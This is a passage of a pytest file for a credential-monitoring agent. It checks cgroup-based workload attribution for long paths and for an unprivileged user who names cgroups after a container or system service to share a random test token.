                assert f["credwatch"]["workload"] == host_wl, (name, f["credwatch"])
            # very long: a pod's shape past 512 bytes of path, and a path past PATH_MAX
            comps, ino = cg.mkdir("long", "a" * 250, "b" * 250, slice_of(fake_uid))
            f = finding(comps)
            cgroup_of(f, comps, ino)
            assert f["orchestrator"]["resource"] == {"type": "pod", "id": fake_uid}, f
            comps, ino = cg.mkdir("long", *[c * 250 for c in "cdefghijklmnopqrs"])
            f = finding(comps)
            assert f["credwatch"]["cgroup_id"] == ino
            assert "orchestrator" not in f and "container" not in f, f
    finally:
        shutil.rmtree(real_log, ignore_errors=True)
    running.healthy()


def test_user_cgroup_named_after_a_container_or_service(running):
    """In its own slice (user.slice/user-UID.slice/user@UID.service, delegated to it) a user
    names a cgroup after a root container's id, and a unit after a system service: when either
    loads a credential the container or service loaded, that is another workload sharing it
    (credential-shared), not the container or service loading it again."""
    if not shutil.which("setpriv"):
        pytest.skip("needs setpriv (util-linux)")
    a = running.agent
    cid = secrets.token_hex(32)
    unit = "cw-hostile-%s.service" % secrets.token_hex(3)
    with Cgroups() as cg:
        def load(comps, tok):
            """A process in comps with tok in its environment; its findings of tok."""
            before = len(own_all(a, tok))

            def join():
                os.chdir(cg.top)
                for c in comps:
                    os.chdir(c)
                with open("cgroup.procs", "w") as f:
                    f.write(str(os.getpid()))
            p = subprocess.Popen(["/bin/true"], env={"GITHUB_TOKEN": tok}, preexec_fn=join)
            assert p.wait(10) == 0
            assert wait_until(lambda: len(own_all(a, tok)) > before, 10), a.stderr()[-2000:]
            return [f for f in own_all(a, tok) if f["process"]["pid"] == p.pid]

        user_svc = ["user.slice", "user-%d.slice" % NOBODY, "user@%d.service" % NOBODY]
        cg.mkdir(*user_svc)
        d = os.path.join(cg.top, *user_svc)
        for f in ("", "cgroup.procs", "cgroup.threads", "cgroup.subtree_control"):
            os.chown(os.path.join(d, f), NOBODY, NOBODY)
        for system, mine in ((["system.slice", "docker-%s.scope" % cid],
                              ["libpod-%s.scope" % cid]),
                             (["system.slice", unit], ["app.slice", unit])):
            tok = running.token()
            owner = load(cg.mkdir(*system)[0], tok)
            assert [f["event"]["action"] for f in owner] == ["credential-observed"], owner
            if mine[:-1]:  # the user's slice for its units, made by the user
                cg.mkdir(*user_svc, *mine[:-1], user=NOBODY)
            theirs = load(cg.mkdir(*user_svc, *mine, user=NOBODY)[0], tok)
            actions = sorted(f["event"]["action"] for f in theirs)
            assert "credential-shared" in actions, (mine, theirs)
            assert {f["credwatch"]["workload"] for f in theirs} == \
                {owner[0]["credwatch"]["workload"] + " uid:%d" % NOBODY}, theirs
    running.healthy()


def own_all(agent, secret):
    """Every finding of this secret so far."""
    fp = agent.key.fingerprint(secret)
    with agent.cv:
        return [l for l in agent.lines
                if l.get("credwatch", {}).get("credential", {}).get("fingerprint") == fp]
